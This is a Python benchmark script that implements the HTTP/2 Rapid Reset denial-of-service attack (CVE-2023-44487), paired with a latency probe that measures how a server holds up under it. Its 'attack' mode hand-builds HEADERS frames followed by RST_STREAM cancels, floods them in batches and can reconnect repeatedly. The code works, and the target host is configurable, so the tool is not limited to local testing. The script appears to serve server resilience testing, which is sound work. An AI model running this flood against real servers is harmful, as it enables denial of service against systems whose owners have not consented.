#!/usr/bin/env python3
"""Rapid reset (CVE-2023-44487) load and a well-behaved probe, for bench/rapid_reset.sh.

A measurement tool, not a test: it reports what happened and never judges it.

  rapid_reset.py attack --port P [--streams 10000] [--reconnect]
      Opens one HTTP/2 connection with prior knowledge (h2c) and writes, as fast as the
      socket takes them, HEADERS (GET /, END_STREAM) immediately followed by
      RST_STREAM(CANCEL) for --streams streams (client ids 1, 3, 5, ...). Frames are
      built by hand (static-table HPACK, so every header block is the same bytes) and
      written in batches; a reader thread answers SETTINGS and PING, counts what the
      server sends and notes GOAWAY. Without --reconnect it stops when the server ends
      the connection; with it, it opens a new connection and goes on until --streams
      streams were sent in all. Prints one JSON object.

  rapid_reset.py probe --port P --duration S [--interval 0.01] --out FILE
      One HTTP/2 connection (the `h2` package) making GET / one at a time, one every
      --interval seconds, for --duration seconds. Writes one line per request to FILE:
      start (µs since the epoch), status (0 when it failed), µs until the response
      ended, and the error if any. A failed connection is replaced by a new one
      (counted). Prints one JSON summary.
"""

import argparse
import json
import signal
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
FRAME_NAMES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS",
               5: "PUSH_PROMISE", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}
ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               7: "REFUSED_STREAM", 8: "CANCEL", 11: "ENHANCE_YOUR_CALM"}


def now_us():
    return time.time_ns() // 1000


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload


def header_block(authority):
    """GET / over http, from HPACK's static table, and :authority as a literal that is
    never added to the dynamic table: the same bytes are valid for every stream."""
    value = authority.encode()
    assert len(value) < 127
    return bytes([0x82, 0x86, 0x84, 0x01, len(value)]) + value


class Attack:
    """One attacking connection: a writer (the caller) and a reader thread."""

    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.lock = threading.Lock()
        self.closed = threading.Event()
        self.goaway = None
        self.frames = {}
        self.bytes_in = 0
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def read(self):
        buf = b""
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    break
                self.bytes_in += len(chunk)
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[0:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags = buf[3], buf[4]
                    payload = buf[9:9 + length]
                    buf = buf[9 + length:]
                    name = FRAME_NAMES.get(kind, str(kind))
                    self.frames[name] = self.frames.get(name, 0) + 1
                    if kind == SETTINGS and not flags & ACK:
                        self.send(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        self.send(frame(PING, ACK, 0, payload))
                    elif kind == GOAWAY:
                        last, code = struct.unpack(">II", payload[:8])
                        self.goaway = {"last_stream_id": last & 0x7FFFFFFF,
                                       "error": ERROR_NAMES.get(code, code),
                                       "after_us": now_us()}
        except OSError:
            pass
        finally:
            self.closed.set()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def attack(args):
    block = header_block(args.authority or f"{args.host}:{args.port}")
    result = {"streams_requested": args.streams, "streams_sent": 0, "connections": 0,
              "goaways": [], "frames_received": {}, "bytes_received": 0, "write_errors": 0,
              "closed_by_server": 0}
    result["start_us"] = now_us()
    while result["streams_sent"] < args.streams:
        conn = Attack(args.host, args.port)
        result["connections"] += 1
        stream_id = 1
        sent_here = 0
        try:
            while result["streams_sent"] < args.streams and not conn.closed.is_set():
                n = min(args.batch, args.streams - result["streams_sent"])
                batch = []
                for _ in range(n):
                    batch.append(frame(HEADERS, END_STREAM | END_HEADERS, stream_id, block))
                    batch.append(frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL)))
                    stream_id += 2
                conn.send(b"".join(batch))
                result["streams_sent"] += n
                sent_here += n
        except OSError:
            result["write_errors"] += 1
        # Let the server answer what it got (GOAWAY, responses) before the next step.
        if conn.closed.wait(args.linger):
            result["closed_by_server"] += 1
        conn.close()
        conn.reader.join(1.0)
        for name, count in conn.frames.items():
            result["frames_received"][name] = result["frames_received"].get(name, 0) + count
        result["bytes_received"] += conn.bytes_in
        if conn.goaway:
            conn.goaway["streams_sent_on_connection"] = sent_here
            result["goaways"].append(conn.goaway)
        if not args.reconnect:
            break
    result["end_us"] = now_us()
    result["seconds"] = round((result["end_us"] - result["start_us"]) / 1e6, 3)
    result["goaway_summary"] = goaway_summary(result["goaways"], result["connections"])
    result["goaway_summary"] += f"; {result['closed_by_server']}/{result['connections']} closed by the server"
    # Summarise repeated GOAWAYs instead of listing thousands of them.
    if len(result["goaways"]) > 3:
        result["goaways"] = result["goaways"][:3] + [f"... {len(result['goaways']) - 3} more"]
    print(json.dumps(result))


def goaway_summary(goaways, connections):
    """One line for the report: which GOAWAYs came, after how many streams."""
    if not goaways:
        return f"none on {connections} connection(s)"
    kinds = {}
    for g in goaways:
        kinds[str(g["error"])] = kinds.get(str(g["error"]), 0) + 1
    sent = sorted(g["streams_sent_on_connection"] for g in goaways)
    errors = ", ".join(f"{k} ×{v}" for k, v in kinds.items())
    span = str(sent[0]) if sent[0] == sent[-1] else f"{sent[0]}–{sent[-1]}"
    last = ", ".join(sorted({str(g["last_stream_id"]) for g in goaways}, key=int)[:3])
    return (f"{errors} on {len(goaways)}/{connections} connection(s), "
            f"after {span} streams written (last stream id {last})")


def probe(args):
    import h2.config
    import h2.connection
    import h2.events

    authority = args.authority or f"{args.host}:{args.port}"
    headers = [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", "/")]
    summary = {"requests": 0, "ok": 0, "failed": 0, "connections": 0}
    sock = conn = None

    def connect():
        s = socket.create_connection((args.host, args.port), timeout=args.timeout)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        c = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
        c.initiate_connection()
        s.sendall(c.data_to_send())
        summary["connections"] += 1
        return s, c

    def one_request():
        nonlocal sock, conn
        if conn is None:
            sock, conn = connect()
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers, end_stream=True)
        sock.sendall(conn.data_to_send())
        status = None
        while True:
            data = sock.recv(65536)
            if not data:
                raise ConnectionError("connection closed by the server")
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived) and event.stream_id == sid:
                    status = int(dict(event.headers)[b":status"])
                elif isinstance(event, h2.events.DataReceived):
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, h2.events.StreamReset) and event.stream_id == sid:
                    raise ConnectionError(f"stream reset: {event.error_code!r}")
                elif isinstance(event, h2.events.ConnectionTerminated):
                    raise ConnectionError(f"GOAWAY {event.error_code!r}")
                elif isinstance(event, h2.events.StreamEnded) and event.stream_id == sid:
                    out = conn.data_to_send()
                    if out:
                        sock.sendall(out)
                    return status
            out = conn.data_to_send()
            if out:
                sock.sendall(out)

    # SIGTERM (the wrapper has seen enough) ends the loop; the log is complete either way.
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    end = time.monotonic() + args.duration
    next_at = time.monotonic()
    with open(args.out, "w", buffering=1) as log:
        while time.monotonic() < end and not stop.is_set():
            start = now_us()
            t0 = time.perf_counter_ns()
            try:
                status, error = one_request(), ""
            except Exception as e:  # noqa: BLE001 - every failure is a data point
                status, error = 0, f"{type(e).__name__}: {e}".replace("\t", " ")
                if sock is not None:
                    sock.close()
                sock = conn = None
            elapsed = (time.perf_counter_ns() - t0) // 1000
            summary["requests"] += 1
            summary["ok" if status and 200 <= status < 300 else "failed"] += 1
            log.write(f"{start}\t{status}\t{elapsed}\t{error}\n")
            next_at += args.interval
            pause = next_at - time.monotonic()
            if pause > 0:
                stop.wait(pause)
            else:
                next_at = time.monotonic()
    print(json.dumps(summary))


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="cmd", required=True)
    for name in ("attack", "probe"):
        p = sub.add_parser(name)
        p.add_argument("--host", default="127.0.0.1")
        p.add_argument("--port", type=int, required=True)
        p.add_argument("--authority", help="the :authority sent (default host:port)")
    a = sub.choices["attack"]
    a.add_argument("--streams", type=int, default=10000)
    a.add_argument("--batch", type=int, default=100, help="streams per write")
    a.add_argument("--reconnect", action="store_true", help="go on over new connections")
    a.add_argument("--linger", type=float, default=1.0,
                   help="seconds to wait for the server after the last write on a connection")
    p = sub.choices["probe"]
    p.add_argument("--duration", type=float, required=True)
    p.add_argument("--interval", type=float, default=0.01)
    p.add_argument("--timeout", type=float, default=5.0)
    p.add_argument("--out", required=True)
    args = parser.parse_args()
    attack(args) if args.cmd == "attack" else probe(args)


if __name__ == "__main__":
    sys.exit(main())
